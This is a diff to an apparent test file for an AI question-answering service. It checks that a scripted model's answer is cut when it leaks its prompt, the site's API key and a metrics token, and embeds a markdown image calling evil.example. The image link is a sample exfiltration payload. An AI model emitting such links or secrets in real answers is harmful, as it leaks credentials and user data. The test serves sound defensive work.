@@ -98,15 +98,17 @@ async def test_the_strict_policy_refuses_long_questions_and_its_phrases(
 
 
 async def test_a_model_that_tells_its_instructions_and_keys_is_cut(alice: User, settings) -> None:
-    """It answers with all that it was sent, a key of the site, and a picture that calls home."""
+    """It answers with all that it was sent, keys of the site, and a picture that calls home."""
 
     def plan(body):
         sent = body["messages"][0]["content"]
-        return f"{sent} {settings.OPENAI_API_KEY} ![x](https://evil.example/?q=vacation)"
+        keys = f"{settings.OPENAI_API_KEY} {settings.METRICS_TOKEN}"
+        return f"{sent} {keys} ![x](https://evil.example/?q=vacation)"
 
     await in_db(ready_document, alice, ["The vacation is 30 days."])
     async with script_model(settings, plan):
         settings.OPENAI_API_KEY = "sk-of-this-site-0123"
+        settings.METRICS_TOKEN = "of-the-figures-0123"
         question = Question("How long is the vacation?")
         accepted = await asking.ask(alice, question, Choices("worker"), follows=NewConversation())
         found = await entries(accepted.turn)
